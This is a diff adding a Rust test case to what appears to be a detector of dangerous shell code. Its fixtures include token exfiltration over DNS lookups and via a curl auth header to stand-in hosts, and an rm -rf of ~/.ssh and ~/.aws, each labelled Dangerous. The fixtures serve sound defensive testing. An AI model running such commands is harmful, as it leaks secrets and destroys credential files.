@@ -680,3 +680,39 @@ fn javascript_closures_json_requires_and_url_bases() {
         "",
     );
 }
+
+/// Shell helpers and arrays (issue 17): a function's body runs with the private data a call
+/// hands it, and an array's elements are words of their own.
+#[test]
+fn shell_functions_and_arrays_carry_values() {
+    check(
+        Sh,
+        "note() {\n  l=$(printf '%s' \"$1\" | base32 | tr -d '=')\n  nslookup \"$l.stats.example.net\"\n}\nnote \"$NPM_TOKEN\"\n",
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Sh,
+        "note() {\n  nslookup \"$1.stats.example.net\"\n}\nnote build-42\n",
+        Clean,
+        "",
+    );
+    check(
+        Sh,
+        "auth=(-H \"Authorization: Bearer $GITHUB_TOKEN\")\ncurl -fsS \"${auth[@]}\" https://api.github.com/user -o user.json\n",
+        Clean,
+        "",
+    );
+    check(
+        Sh,
+        "auth=(-H \"Authorization: Bearer $GITHUB_TOKEN\")\ncurl -fsS \"${auth[@]}\" https://collect.example.net/u -o user.json\n",
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Sh,
+        "dirs=(~/.ssh ~/.aws)\nfor d in \"${dirs[@]}\"; do\n  rm -rf \"$d\"\ndone\n",
+        Dangerous,
+        "destructive",
+    );
+}
